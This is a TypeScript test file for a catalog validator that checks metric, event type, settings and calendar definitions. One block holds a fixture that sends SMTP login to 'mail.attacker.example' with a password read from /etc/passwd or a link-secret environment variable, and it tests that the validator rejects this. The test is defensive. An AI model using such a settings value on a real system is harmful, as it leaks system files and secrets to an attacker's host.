import { describe, expect, test } from 'vitest';
import { checkText, versionOf } from '../../../services/console/catalog-check.ts';
import type { PublishedCatalog } from '../../../services/console/catalog-check.ts';
import { buildCatalog, documentKey, identityOf } from '../../../services/kernel/catalog/build.ts';
import type { Json } from '../../../services/kernel/json.ts';
import { writeText } from '../../../services/platform/catalog/text.ts';
import { catalogTools } from '../../../services/platform/catalog/tools.ts';
import { aDocuments, changed } from '../../support/catalog-documents.ts';

const publishedOf = (documents: readonly Json[]): PublishedCatalog => ({
  catalog: buildCatalog(documents, catalogTools).catalog,
  documents: new Map(
    documents.map((one) => [documentKey(identityOf(one) ?? { kind: '', id: '' }), one]),
  ),
});
const published = publishedOf(aDocuments());
const textOf = (key: string): string => writeText(published.documents.get(key) ?? null);
const check = (text: string) => checkText(text, published);

describe('an edit of a published definition', () => {
  test.each([
    ['Metric/orders', 'data.cancelled', 'data.canceled'],
    ['Metric/orders', 'aggregation: count', 'aggregation: sum'],
    ['EventType/shop.order', 'type: record', 'type: recrod'],
  ])('of %s that is half written breaks nothing yet', (key, right, wrong) => {
    const text = textOf(key);
    expect(text).toContain(right);
    expect(check(text)).toMatchObject({ faults: [], impacts: [] });
    const { faults, impacts } = check(text.replace(right, wrong));
    expect(faults.length).toBeGreaterThan(0);
    expect(impacts).toEqual([]);
  });

  test('that is sound says what it breaks', () => {
    const { faults, impacts } = check(textOf('Metric/orders').replace(/ +- - store\n/, ''));
    expect(faults).toEqual([]);
    expect(impacts.map(({ code, subject }) => `${code} ${subject}`)).toContain(
      'definition_broken AlertRule/orders-low',
    );
  });
});

describe('settings that would log in elsewhere with a file of the process', () => {
  const settings = (password: string) => `apiVersion: tidemark/v1
kind: Settings
metadata: { id: default }
spec:
  smtp:
    host: mail.attacker.example
    port: 587
    security: starttls
    username: x
    password: ${password}
    from: a@b.example
`;
  test.each(['{ file: /etc/passwd }', '{ env: TIDEMARK_LINK_SECRET }'])(
    'have a fault where the operator says which secrets there are: %s',
    (ref) => {
      const places = { TIDEMARK_SECRETS_DIR: ['/run/secrets'], TIDEMARK_SECRETS_ENV: ['SECRET_*'] };
      expect(checkText(settings(ref), published, { places }).faults).toMatchObject([
        {
          line: 10,
          path: 'spec.smtp.password',
          code: 'field_invalid',
          message: expect.stringContaining('no definition may read'),
        },
      ]);
    },
  );

  test('have none where the operator has put the secret, or says nothing of it', () => {
    expect(check(settings('{ env: SMTP_PASSWORD }')).faults).toEqual([]);
    const places = { TIDEMARK_SECRETS_DIR: ['/etc/tidemark'], TIDEMARK_SECRETS_ENV: [] };
    const { faults } = checkText(settings('{ file: /etc/tidemark/smtp }'), published, { places });
    expect(faults).toEqual([]);
  });
});

describe('a definition without an id yet', () => {
  const text = `apiVersion: tidemark/v1
kind: Metric
metadata:
  id:
  name: { en: Orders }
  owner: person:anna
spec:
  type: simple
  event: shop.order
  where: data.canceled
  aggregation: count
  grain: [day]
`;
  test('shows every fault where it stands', () => {
    const { identity, faults, impacts } = check(text);
    expect(identity).toBeUndefined();
    expect(faults).toMatchObject([
      { line: 4, path: 'metadata.id', code: 'field_missing' },
      { line: 12, path: 'spec.grain', code: 'field_unknown' },
    ]);
    expect(check(text.replace(/ {2}grain.*\n/, '')).faults).toMatchObject([
      { line: 4, path: 'metadata.id' },
      { line: 10, column: 10, path: 'spec.where', code: 'expression_invalid' },
    ]);
    expect(impacts).toEqual([]);
  });

  test.each(['', 'metadata: 3\n', 'kind: Settings\nspec: {}\n', '[1]', 'kind: 7\nmetadata: [a]\n'])(
    'says so, whatever else it lacks: %j',
    (other) => {
      expect(check(other || '{}').faults.map(({ message }) => message)).toContain(
        'a document has a kind and a metadata.id',
      );
    },
  );
});

describe('the version of a metric as it was published', () => {
  const calendar: Json = {
    apiVersion: 'tidemark/v1',
    kind: 'Calendar',
    metadata: { id: 'fiscal' },
    spec: { firstMonth: 4 },
  };
  const drivers = [{ metric: 'cancels', operator: 'influence' }];
  test.each<[string, Readonly<Record<string, Json>>]>([
    ['as it is', {}],
    ['of a fiscal year', { calendar: 'fiscal' }],
    ['with drivers', { drivers }],
  ])('%s is found', (_, spec) => {
    const now = publishedOf(changed([...aDocuments(), calendar], 'Metric/orders', { spec }));
    const version = now.catalog.metrics.get('orders')?.version;
    expect(version).toBeDefined();
    expect(versionOf(now.documents.get('Metric/orders') ?? null, now)).toBe(version);
  });

  test('is found where what drove it is gone by now', () => {
    const [orders] = changed(
      aDocuments().filter((one) => identityOf(one)?.id === 'orders'),
      'Metric/orders',
      { spec: { drivers: [{ metric: 'gone', operator: 'influence' }] } },
    );
    expect(versionOf(orders ?? null, published)).toBe(
      published.catalog.metrics.get('orders')?.version,
    );
  });
});
